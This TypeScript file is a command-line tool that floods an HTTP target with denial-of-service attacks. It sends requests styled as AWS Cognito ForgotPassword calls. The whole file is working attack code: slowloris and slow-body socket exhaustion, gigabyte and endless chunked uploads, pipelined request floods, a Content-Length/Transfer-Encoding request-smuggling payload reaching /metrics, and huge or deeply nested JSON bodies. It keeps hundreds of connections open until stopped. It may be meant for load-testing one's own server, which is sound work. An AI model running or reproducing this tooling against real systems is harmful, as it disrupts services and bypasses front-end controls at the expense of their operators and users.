import { connect, type Socket } from 'node:net'
import { argv } from 'node:process'

// One who wants the server for nobody else: `KIND URL`. Runs until it is ended.
const [, , kind = '', target = ''] = argv
const { hostname, port } = new URL(target)

const open = () => {
  const socket = connect(Number(port), hostname)
  socket.on('error', () => {})
  socket.resume()
  return socket
}
/** Many at a time, each made anew when it ends. */
function keep(count: number, live: (socket: Socket) => void): void {
  const one = () => {
    const socket = open()
    socket.on('connect', () => live(socket))
    socket.on('close', () => setTimeout(one, 20))
  }
  for (let i = 0; i < count; i++) one()
}

const head = (length: number, rest = '') =>
  `POST / HTTP/1.1\r\nHost: ${hostname}:${port}\r\nContent-Type: application/x-amz-json-1.1\r\nX-Amz-Target: AWSCognitoIdentityProviderService.ForgotPassword\r\nContent-Length: ${length}\r\n${rest}\r\n`
const GIGABYTE = 1024 ** 3

const attacks: Readonly<Record<string, () => void>> = {
  /** Headers that never end, a byte at a time. */
  slowloris: () =>
    keep(500, (socket) => {
      socket.write('POST / HTTP/1.1\r\nX-A: ')
      const drip = setInterval(() => socket.write('a'), 500)
      socket.on('close', () => clearInterval(drip))
    }),
  /** Bodies that never come. */
  'slow bodies': () =>
    keep(500, (socket) => {
      socket.write(head(1_000))
      const drip = setInterval(() => socket.write(' '), 500)
      socket.on('close', () => clearInterval(drip))
    }),
  /** Gigabytes, announced and in chunks. */
  'huge bodies': () => {
    const chunk = 'a'.repeat(65_536)
    const pour = (socket: Socket, text: string) => {
      const more = () => {
        if (socket.writable && socket.write(text)) setTimeout(more, 5)
      }
      socket.on('drain', more)
      more()
    }
    keep(4, (socket) => {
      socket.write(head(GIGABYTE))
      pour(socket, chunk)
    })
    keep(4, (socket) => {
      socket.write(head(0).replace('Content-Length: 0', 'Transfer-Encoding: chunked'))
      pour(socket, `${chunk.length.toString(16)}\r\n${chunk}\r\n`)
    })
  },
  /** A hundred requests in one breath, again and again, by one caller. */
  pipelining: () => {
    const body = '{"ClientId":"a","Username":"b"}'
    const request = head(body.length) + body
    keep(8, (socket) => {
      const send = setInterval(() => socket.writable && socket.write(request.repeat(10)), 100)
      socket.on('close', () => clearInterval(send))
    })
  },
  /** Two lengths, chunks and a length, a request inside a request. */
  smuggling: () =>
    keep(16, (socket) => {
      socket.write(`${head(4, 'Transfer-Encoding: chunked\r\n')}0\r\n\r\nGET /metrics HTTP/1.1\r\n\r\n`)
    }),
  /** JSON as deep and as odd as it goes, a megabyte each. */
  'heavy JSON': () => {
    const bodies = [
      '['.repeat(1_000_000),
      `{"ClientId":"${'a'.repeat(1_000_000)}"}`,
      `{${'"a":1,'.repeat(150_000)}"b":1}`,
    ]
    keep(2, (socket) => {
      for (const body of bodies) socket.write(head(body.length) + body)
      setTimeout(() => socket.destroy(), 1_000)
    })
  },
}

attacks[kind]?.()
